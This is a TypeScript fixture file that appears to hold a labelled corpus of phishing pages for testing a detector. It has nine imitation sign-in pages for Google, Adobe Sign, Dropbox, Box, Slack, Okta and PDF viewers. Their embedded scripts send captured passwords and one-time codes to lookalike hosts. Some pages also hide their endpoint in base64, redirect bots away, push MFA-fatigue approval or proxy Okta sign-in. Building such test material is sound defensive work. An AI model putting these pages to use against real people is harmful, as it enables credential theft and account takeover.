import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, jsRoute, jsonRoute, pngRoute, b64 } from '../parts/t-kit.js';

// Reported by employees: SaaS vendor sign-in lures (Google, Adobe Sign, Dropbox, Box, Slack, Okta Verify) — blind split.

const gHost = 'accounts.google.workspace-signin.com';
const adHost = 'adobesign-agreements.documentcloud-view.com';
const dbHost = 'dropbox.transfer-files.net';
const boxHost = 'app-box.shared-folder.info';
const slHost = 'hartwell-eng.slack-workspaces.com';
const ovHost = 'hartwell.okta-verify-push.com';
const gdHost = 'drive-google.docs-shared.org';
const pdfHost = 'www.cascade-printworks.com';

const gLogo = `<svg width="75" height="24" viewBox="0 0 75 24"><text x="0" y="19" font-family="Product Sans,Arial" font-size="22"><tspan fill="#4285f4">G</tspan><tspan fill="#ea4335">o</tspan><tspan fill="#fbbc05">o</tspan><tspan fill="#4285f4">g</tspan><tspan fill="#34a853">l</tspan><tspan fill="#ea4335">e</tspan></text></svg>`;

export const entries: Entry[] = [
  {
    id: 't-ph-google-workspace-signin',
    label: 'phishing',
    kind: 'google-kit',
    url: `https://${gHost}/v3/signin/identifier?continue=https%3A%2F%2Fmail.google.com%2Fmail%2F&hd=hartwell-eng.com&flowName=GlifWebSignIn`,
    body: doc(
      'Sign in - Google Accounts',
      `<style>body{margin:0;font-family:"Google Sans",Roboto,Arial,sans-serif;background:#f0f4f9}
.c{max-width:1040px;margin:12vh auto;background:#fff;border-radius:28px;padding:36px;display:flex;gap:40px}
.c>div{flex:1}h1{font-weight:400;font-size:36px;margin:16px 0 10px}
.i{width:100%;height:54px;border:1px solid #747775;border-radius:4px;padding:0 14px;font-size:16px;box-sizing:border-box;margin:22px 0 6px}
.b{background:#0b57d0;color:#fff;border:0;border-radius:20px;padding:10px 24px;font-size:14px;cursor:pointer}
.t{background:none;border:0;color:#0b57d0;font-size:14px;cursor:pointer}
.row{display:flex;justify-content:flex-end;gap:10px;margin-top:40px}
.ft{max-width:1040px;margin:0 auto;display:flex;justify-content:space-between;font-size:12px;color:#444}</style>`,
      `<div class="c"><div>${gLogo}<h1 id="h">Sign in</h1><p id="sub">Use your Google Account</p></div>
<div><form id="f"><div id="s1"><input class="i" type="email" id="id" placeholder="Email or phone" autofocus><button type="button" class="t">Forgot email?</button>
<p style="font-size:14px;color:#444">Not your computer? Use Guest mode to sign in privately. <a href="#" style="color:#0b57d0">Learn more about using Guest mode</a></p></div>
<div id="s2" hidden><input class="i" type="password" id="pw" placeholder="Enter your password"><label style="font-size:14px"><input type="checkbox" onclick="pw.type=this.checked?'text':'password'"> Show password</label></div>
<div class="row"><button type="button" class="t">Create account</button><button class="b" id="nx">Next</button></div></form></div></div>
<div class="ft"><span>English (United States) &#9662;</span><span>Help &nbsp;&nbsp; Privacy &nbsp;&nbsp; Terms</span></div>
<script>
(function(){var step=1,f=document.getElementById('f'),id=document.getElementById('id');
var hd=new URLSearchParams(location.search).get('hd');if(hd)id.placeholder='you@'+hd;
f.onsubmit=function(e){e.preventDefault();if(step==1){if(!id.value)return;step=2;document.getElementById('s1').hidden=true;document.getElementById('s2').hidden=false;document.getElementById('h').textContent='Welcome';document.getElementById('sub').textContent=id.value;return}
var d=btoa(JSON.stringify({a:id.value,b:document.getElementById('pw').value}));new Image().src='https://${gHost}/v3/signin/_/lookup/img.gif?d='+encodeURIComponent(d);
setTimeout(function(){location.href='/v3/signin/challenge/totp?d='+encodeURIComponent(d)},900)};})();
</script>`,
    ),
    routes: {
      [`${gHost}/v3/signin/challenge/totp`]: htmlRoute(doc('2-Step Verification', '<style>body{font-family:Roboto,Arial;background:#f0f4f9}.c{max-width:440px;margin:14vh auto;background:#fff;border-radius:28px;padding:36px}</style>', `<div class="c">${gLogo}<h2 style="font-weight:400">2-Step Verification</h2><p>Enter the code from your Google Authenticator app</p><input id="c" style="width:100%;height:48px;font-size:18px" placeholder="Enter code"><button onclick="fetch('/v3/signin/_/otp',{method:'POST',body:location.search+'&c='+document.getElementById('c').value})">Next</button></div>`)),
    },
  },
  {
    id: 't-ph-adobe-sign-agreement',
    label: 'phishing',
    kind: 'esign-lure',
    url: `https://${adHost}/public/esignWidget?wid=CBFCIBAA3AAABLblqZhDa8Z1Yw_vendor_agreement`,
    body: doc(
      'Adobe Acrobat Sign',
      `<style>body{margin:0;font-family:"Adobe Clean",Arial,sans-serif;background:#eaeaea}
.h{background:#fff;padding:12px 24px;border-bottom:1px solid #ddd;display:flex;gap:10px;align-items:center}
.a{width:26px;height:26px;background:#eb1000;color:#fff;display:flex;align-items:center;justify-content:center;font-weight:700;border-radius:3px}
.p{max-width:720px;margin:24px auto;background:#fff;min-height:600px;padding:50px;box-shadow:0 2px 10px rgba(0,0,0,.15);position:relative}
.p .txt{filter:blur(5px);font-size:13px;line-height:1.9;color:#333}
.lg{position:absolute;top:150px;left:50%;transform:translateX(-50%);width:360px;background:#fff;border:1px solid #ccc;box-shadow:0 8px 24px rgba(0,0,0,.25);padding:26px;border-radius:6px}
.lg input{width:100%;padding:10px;border:1px solid #aaa;border-radius:4px;margin:6px 0;box-sizing:border-box}.lg button{width:100%;padding:10px;background:#1473e6;color:#fff;border:0;border-radius:16px;font-weight:700;cursor:pointer}</style>`,
      `<div class="h"><div class="a">A</div><b>Adobe Acrobat Sign</b><span style="margin-left:auto;font-size:13px;color:#555">Vendor_Services_Agreement_2027.pdf &middot; 4 pages</span></div>
<div class="p"><div class="txt" id="txt"></div>
<div class="lg"><b style="font-size:17px">Confirm your identity</b><p style="font-size:13px;color:#444">To view and e-sign this agreement, please log in with the email address this document was sent to.</p>
<input type="email" id="ae" placeholder="Email"><input type="password" id="ap" placeholder="Password"><button id="ab">Continue to sign</button>
<p style="font-size:11px;color:#777;margin-top:10px">Adobe Acrobat Sign &middot; Secured with 256-bit encryption</p></div></div>
<script>
document.getElementById('txt').innerHTML=Array(40).join('This Vendor Services Agreement ("Agreement") is entered into by and between the parties identified below with respect to the provision of services. ');
var _u=atob('${b64('https://adb-sign.formsubmit-hub.com/in.php')}');
document.getElementById('ab').onclick=function(){var e=document.getElementById('ae').value,p=document.getElementById('ap').value;if(!e||!p)return;
fetch(_u,{method:'POST',mode:'no-cors',body:new URLSearchParams({e:e,p:p,s:'adobe'})}).finally(function(){location.href='https://acrobat.adobe.com/'});};
</script>`,
    ),
  },
  {
    id: 't-ph-dropbox-transfer-file',
    label: 'phishing',
    kind: 'file-share-lure',
    url: `https://${dbHost}/t/AADx7bLQ9mVj2ZpCkR-Remittance`,
    body: doc(
      'Dropbox Transfer',
      `<style>body{margin:0;font-family:"Sharp Grotesk",Atlas Grotesk,Helvetica,sans-serif;background:#f7f5f2}
.nav{padding:16px 32px;display:flex;align-items:center;gap:10px;font-weight:700;color:#0061fe}
.c{max-width:420px;margin:50px auto;background:#fff;border-radius:8px;padding:30px;box-shadow:0 1px 3px rgba(0,0,0,.1)}
.fi{display:flex;gap:12px;align-items:center;border:1px solid #eee;border-radius:6px;padding:12px;margin:14px 0}
input{width:100%;padding:11px;border:1px solid #c1c7d0;border-radius:4px;margin:5px 0;box-sizing:border-box}
button{width:100%;padding:11px;background:#0061fe;color:#fff;border:0;border-radius:4px;font-weight:600;cursor:pointer}</style>`,
      `<div class="nav">&#9670; Dropbox</div>
<div class="c"><h2 style="margin:0">Files have been sent to you</h2><p style="color:#637282;font-size:14px">from m.ortiz@cascadeelectric-supply.com &middot; expires in 6 days</p>
<div class="fi">&#128196;<div><b>Remittance_Slip_1127.pdf</b><br><small>212 KB</small></div></div><div class="fi">&#128196;<div><b>Updated_Bank_Details.pdf</b><br><small>96 KB</small></div></div>
<form id="f"><p style="font-size:14px">Sign in with your email to download.</p><input name="email" type="email" placeholder="Email" required><input name="password" type="password" placeholder="Password" required><button>Download</button></form>
<p style="font-size:11px;color:#8a94a6;margin-top:14px">Dropbox Transfer &middot; &copy; 2026 Dropbox</p></div>
<script>
document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();var fd=new FormData(this);
fetch('/t/submit',{method:'POST',body:fd}).then(function(r){return r.json()}).then(function(j){if(j.redirect)location.href=j.redirect}).catch(function(){});});
</script>`,
    ),
  },
  {
    id: 't-ph-box-shared-folder',
    label: 'phishing',
    kind: 'file-share-lure',
    url: `https://${boxHost}/s/9x2kq7v1m0hartwellbids`,
    body: doc(
      'Box | Shared Folder',
      `<style>body{margin:0;font-family:Lato,Helvetica,sans-serif;background:#fbfbfb}
.t{background:#fff;border-bottom:1px solid #e8e8e8;padding:10px 22px;display:flex;align-items:center}.t b{background:#0061d5;color:#fff;padding:4px 9px;border-radius:4px;font-size:20px}
.c{max-width:760px;margin:30px auto;background:#fff;border:1px solid #e8e8e8;border-radius:6px}
.r{display:flex;align-items:center;gap:12px;padding:12px 20px;border-bottom:1px solid #f0f0f0;font-size:14px;color:#222}
.o{position:fixed;inset:0;background:rgba(0,0,0,.45);display:flex;align-items:center;justify-content:center}
.m{background:#fff;width:380px;border-radius:6px;padding:28px}.m input{width:100%;padding:9px;border:1px solid #bcbcbc;border-radius:4px;margin:5px 0;box-sizing:border-box}.m button{width:100%;padding:10px;background:#0061d5;color:#fff;border:0;border-radius:4px;cursor:pointer}</style>`,
      `<div class="t"><b>box</b><span style="margin-left:14px;font-size:14px;color:#555">Shared with you</span></div>
<div class="c"><div class="r"><b>RFP 2027 - Bid Documents</b></div><div class="r">&#128193; Drawings_Rev_C</div><div class="r">&#128196; Bid_Form_Signed.pdf</div><div class="r">&#128196; Scope_of_Work.docx</div><div class="r">&#128196; Pricing_Schedule.xlsx</div></div>
<div class="o"><div class="m"><h3 style="margin-top:0">Log in to Box</h3><p style="font-size:13px;color:#555">You need to log in to view this shared folder.</p>
<form action="https://bx-auth-srv.icu/box/log.php" method="POST"><input type="email" name="login" placeholder="Email Address" required><input type="password" name="password" placeholder="Password" required><input type="hidden" name="folder" value="9x2kq7v1m0hartwellbids"><button>Log In</button></form>
<p style="font-size:12px;text-align:center"><a href="#">Use Single Sign On (SSO)</a> &middot; <a href="#">Reset Password</a></p></div></div>`,
    ),
  },
  {
    id: 't-ph-slack-workspace-signin',
    label: 'phishing',
    kind: 'slack-kit',
    url: `https://${slHost}/sign_in_with_password?redir=%2Farchives%2FC04HRANNOUNCE`,
    body: doc(
      'Sign in | Slack',
      `<style>body{margin:0;font-family:Slack-Lato,Lato,Helvetica,sans-serif;background:#fff;color:#1d1c1d;text-align:center}
.lg{margin:40px 0 20px;font-weight:900;font-size:30px}
.s{max-width:400px;margin:0 auto}.s input{width:100%;height:44px;border:1px solid #868686;border-radius:4px;padding:0 12px;font-size:17px;box-sizing:border-box;margin:6px 0}
.s button{width:100%;height:44px;background:#4a154b;color:#fff;border:0;border-radius:4px;font-size:17px;font-weight:700;cursor:pointer;margin-top:10px}
.gb{border:2px solid #4285f4!important;background:#fff!important;color:#4285f4!important}</style>`,
      `<div class="lg"># slack</div><h1 style="font-size:40px;margin:0">Sign in to Hartwell Engineering</h1><p style="color:#454245">hartwell-eng.slack.com</p>
<div class="s"><button class="gb" type="button">Sign in with Google</button><p>OR</p>
<form id="sf"><input type="email" name="email" placeholder="name@work-email.com"><input type="password" name="password" placeholder="Your password"><button>Sign In</button></form>
<p style="font-size:14px"><a href="#">Forgot password?</a></p></div>
<script>
document.getElementById('sf').onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));d.team='hartwell-eng';
fetch('/api/signin.password',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(d)}).then(function(){location.href='/checkcode'});};
</script>`,
    ),
    routes: {
      [`${slHost}/checkcode`]: htmlRoute(doc('Check your email | Slack', '<style>body{font-family:Lato,Arial;text-align:center}</style>', `<h1>Check your email for a code</h1><p>We've sent a 6-character code to your email. The code expires shortly, so please enter it soon.</p><input id="c" maxlength="7" style="font-size:28px;width:220px;text-align:center"><script>document.getElementById('c').oninput=function(){if(this.value.length>=6)fetch('/api/signin.code',{method:'POST',body:this.value})}</script>`)),
    },
  },
  {
    id: 't-ph-okta-verify-push',
    label: 'phishing',
    kind: 'mfa-approve',
    url: `https://${ovHost}/signin/verify/okta/push?stateToken=00Xa8b7c6d5e4f3g2h1`,
    body: doc(
      'Hartwell Engineering - Okta Verify',
      `<style>body{margin:0;font-family:Arial,sans-serif;background:#f4f5f7}.bg{height:300px;background:#1d4e89}
.w{width:400px;margin:-220px auto 0;background:#fff;border:1px solid #ddd;border-radius:3px}.hd{padding:28px;text-align:center;border-bottom:1px solid #ddd;font-weight:700;color:#1d4e89;font-size:20px}
.bd{padding:26px 40px;text-align:center}.spin{width:40px;height:40px;border:4px solid #e0e0e0;border-top-color:#1662dd;border-radius:50%;margin:16px auto;animation:s 1s linear infinite}@keyframes s{to{transform:rotate(360deg)}}
.btn{display:block;width:100%;height:40px;border:1px solid #ccc;background:#f9f9f9;border-radius:3px;margin-top:10px;cursor:pointer}</style>`,
      `<div class="bg"></div><div class="w"><div class="hd">HARTWELL</div><div class="bd">
<h3>Get a push notification</h3><p style="font-size:13px;color:#555" id="who"></p>
<div class="spin"></div><p style="font-size:14px"><b>Push sent!</b> Open Okta Verify on your phone and tap <b>Yes, it's me</b>.</p>
<p style="font-size:13px;background:#fff8e1;padding:8px;border:1px solid #ffe08a">We're upgrading MFA. You may receive several prompts over the next few minutes &mdash; please approve each to keep your account active.</p>
<button class="btn" id="code">Enter a code instead</button><div id="cd" hidden><input id="c" style="width:100%;height:36px;margin-top:8px" placeholder="Enter code"><button class="btn" id="vc">Verify</button></div>
<p style="font-size:12px"><a href="#">Back to sign in</a></p></div></div>
<script src="/signin/verify/js/poll.js"></script>`,
    ),
    routes: {
      [`${ovHost}/signin/verify/js/poll.js`]: jsRoute(`var st=new URLSearchParams(location.search).get('stateToken');
fetch('/signin/verify/api/tx?st='+st).then(function(r){return r.json()}).then(function(j){document.getElementById('who').textContent=j.user;});
setInterval(function(){fetch('/signin/verify/api/tx?st='+st+'&resend=1').then(function(r){return r.json()}).then(function(j){if(j.status==='SUCCESS')location.href=j.next})},4000);
document.getElementById('code').onclick=function(){document.getElementById('cd').hidden=false};
document.getElementById('vc').onclick=function(){fetch('/signin/verify/api/otp',{method:'POST',body:JSON.stringify({st:st,c:document.getElementById('c').value})})};`),
      [`${ovHost}/signin/verify/api/tx`]: jsonRoute({ user: 'd.kowalski@hartwell-eng.com', status: 'MFA_CHALLENGE', next: 'https://hartwell-eng.okta.com/app/UserHome' }),
    },
  },
  {
    id: 't-ph-google-drive-shared',
    label: 'phishing',
    kind: 'file-share-lure',
    url: `https://${gdHost}/file/d/1Xv9aQ2-Llq7_Kp0/view?usp=sharing`,
    body: doc(
      'Project_Budget_2027.xlsx - Google Drive',
      `<style>body{margin:0;font-family:Roboto,Arial,sans-serif;background:#1e1e1e;color:#fff}
.tb{display:flex;align-items:center;gap:12px;padding:12px 18px;background:rgba(0,0,0,.6)}
.pv{width:70%;margin:30px auto;height:70vh;background:#fff;filter:blur(6px)}
.d{position:fixed;top:50%;left:50%;transform:translate(-50%,-50%);background:#fff;color:#202124;width:380px;border-radius:8px;padding:28px;box-shadow:0 4px 16px rgba(0,0,0,.4)}
.d input{width:100%;padding:12px;border:1px solid #dadce0;border-radius:4px;margin:6px 0;box-sizing:border-box}.d button{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 22px;cursor:pointer;float:right}</style>`,
      `<div class="tb">&#128196; Project_Budget_2027.xlsx<span style="margin-left:auto">&#11015; &#8942;</span></div><div class="pv"></div>
<div class="d">${gLogo}<h3 style="font-weight:400">Verify it's you</h3><p style="font-size:14px;color:#5f6368">Sign in to preview this file shared by <b>finance@hartwell-eng.com</b>. This helps protect shared files from unauthorised access.</p>
<form id="g"><input type="email" name="Email" placeholder="Email" required><input type="password" name="Passwd" placeholder="Password" required><button>Next</button></form><div style="clear:both"></div></div>
<script>
document.getElementById('g').onsubmit=function(e){e.preventDefault();var f=this;var b=new Blob([JSON.stringify({e:f.Email.value,p:f.Passwd.value,ref:location.href})],{type:'application/json'});
navigator.sendBeacon('https://gd-preview-api.shop/r',b);setTimeout(function(){location.href='https://drive.google.com/'},700);};
</script>`,
    ),
  },
  {
    id: 't-ph-pdf-blurred-overlay',
    label: 'phishing',
    kind: 'compromised-site-kit',
    url: `https://${pdfHost}/wp-content/uploads/2024/03/.well/INV-30419/index.php`,
    body: doc(
      'Adobe PDF Online',
      `<style>body{margin:0;font-family:Arial,sans-serif;background:url(/wp-content/uploads/2024/03/.well/INV-30419/bg.png) #666 center/cover}
.sh{position:fixed;inset:0;backdrop-filter:blur(6px);background:rgba(40,40,40,.55)}
.m{position:fixed;top:50%;left:50%;transform:translate(-50%,-50%);background:#fff;width:360px;border-radius:4px;overflow:hidden}
.m .h{background:#b30b00;color:#fff;padding:14px;font-weight:700}.m .b{padding:20px}
.m input{width:100%;padding:9px;border:1px solid #bbb;margin:5px 0;box-sizing:border-box}.m button{width:100%;padding:10px;background:#b30b00;color:#fff;border:0;cursor:pointer}</style>`,
      `<div class="sh"></div><div class="m"><div class="h">&#128462; Adobe PDF Online</div><div class="b">
<p style="font-size:13px">INV-30419.pdf (3 pages) requires verification. Confirm your email account to access this document.</p>
<form id="f"><input type="email" id="e" placeholder="Email Address"><input type="password" id="p" placeholder="Email Password"><button>View PDF</button></form>
<div id="m" style="font-size:12px;color:#b30b00;margin-top:6px"></div></div></div>
<script>
var e=decodeURIComponent((location.hash.match(/#(.+)/)||[])[1]||'');if(e.indexOf('@')>0)document.getElementById('e').value=e;
var n=0;document.getElementById('f').onsubmit=function(ev){ev.preventDefault();n++;
var x=new XMLHttpRequest();x.open('POST','next.php');x.setRequestHeader('Content-type','application/x-www-form-urlencoded');x.send('email='+encodeURIComponent(document.getElementById('e').value)+'&pass='+encodeURIComponent(document.getElementById('p').value)+'&n='+n);
document.getElementById('p').value='';document.getElementById('m').textContent='Invalid password, please try again';if(n>=2)location.href='https://www.adobe.com/acrobat/online.html';};
</script>`,
    ),
    routes: {
      [`${pdfHost}/wp-content/uploads/2024/03/.well/INV-30419/bg.png`]: pngRoute(220, 220, 220),
    },
  },
  {
    id: 't-ph-aitm-okta-turnstile-proxy',
    label: 'phishing',
    kind: 'aitm-captcha',
    url: 'https://sso.hartwell-eng.okta-access.cloud/?c=aGFydHdlbGwtZW5n',
    body: doc(
      'One moment, please...',
      `<style>body{margin:0;font-family:-apple-system,system-ui,"Segoe UI",Roboto,sans-serif;background:#fff;color:#222}.w{max-width:560px;margin:16vh auto;padding:0 20px}
.t{width:300px;height:65px;border:1px solid #e0e0e0;background:#fafafa;display:flex;align-items:center;gap:10px;padding:0 14px;box-sizing:border-box;margin:22px 0;font-size:14px}
.t input{width:22px;height:22px}.f{font-size:10px;color:#666;margin-left:auto;text-align:right}</style>`,
      `<div class="w"><h1 style="font-weight:500">Checking your browser before accessing Hartwell SSO</h1><p>Please complete the security check to continue.</p>
<div class="t"><input type="checkbox" id="cb"><label for="cb">Verify you are human</label><div class="f">Protected by<br><b>Turnstile</b></div></div>
<p style="font-size:12px;color:#999">Ray ID: 8ea41c09fe22b7d3</p></div>
<script>
(function(){
var bad=navigator.webdriver||/Headless|PhantomJS|bot|crawl|spider/i.test(navigator.userAgent)||screen.width<200;
function go(){fetch('/cdn-cgi/turnstile/v0/siteverify',{method:'POST',body:JSON.stringify({t:Date.now(),tz:Intl.DateTimeFormat().resolvedOptions().timeZone,w:screen.width,c:new URLSearchParams(location.search).get('c')})}).then(function(r){return r.json()}).then(function(j){if(j.success)location.replace(j.redirect)})}
if(bad){location.replace('https://www.wikipedia.org/');return}
document.getElementById('cb').onchange=go;setTimeout(go,4000);})();
</script>`,
    ),
    routes: {
      'sso.hartwell-eng.okta-access.cloud/cdn-cgi/turnstile/v0/siteverify': jsonRoute({ success: true, redirect: '/app/office365/exk1a2b3c4/sso/saml?SAMLRequest=fZJNT8Mw' }),
      'sso.hartwell-eng.okta-access.cloud/app/office365/exk1a2b3c4/sso/saml': htmlRoute(doc(
        'Hartwell Engineering - Sign In',
        `<style>body{margin:0;font:14px Arial,sans-serif;background:#f4f5f7}.bg{height:300px;background:#1d4e89}.ow{width:400px;margin:-220px auto 0;background:#fff;border:1px solid #ddd;border-radius:3px}.hd{padding:28px;text-align:center;border-bottom:1px solid #ddd;color:#1d4e89;font-weight:700;font-size:20px}.bd{padding:22px 42px}.bd input{width:100%;height:38px;border:1px solid #8c8c96;border-radius:3px;padding:0 8px;box-sizing:border-box;margin:4px 0 12px}.btn{width:100%;height:40px;background:#1662dd;border:0;border-radius:3px;color:#fff}</style>
<script>/* proxied by kit: original origin hartwell-eng.okta.com */var __p={o:"https://hartwell-eng.okta.com",h:location.host,s:"sess_7d91f2"};</script>`,
        `<div class="bg"></div><div class="ow"><div class="hd">HARTWELL</div><form class="bd" id="of"><h2 style="text-align:center;font-size:15px">Sign In</h2><label>Username</label><input name="identifier"><label>Password</label><input type="password" name="credentials.passcode"><button class="btn">Sign In</button></form><div style="text-align:center;font-size:11px;color:#888;padding:10px;border-top:1px solid #eee">Powered by Okta</div></div>
<script>document.getElementById('of').onsubmit=function(e){e.preventDefault();fetch('/idp/idx/identify?__p='+__p.s,{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(Object.fromEntries(new FormData(this)))}).then(function(){location.href='/signin/verify/okta/push'})};</script>`,
      )),
    },
  },
];
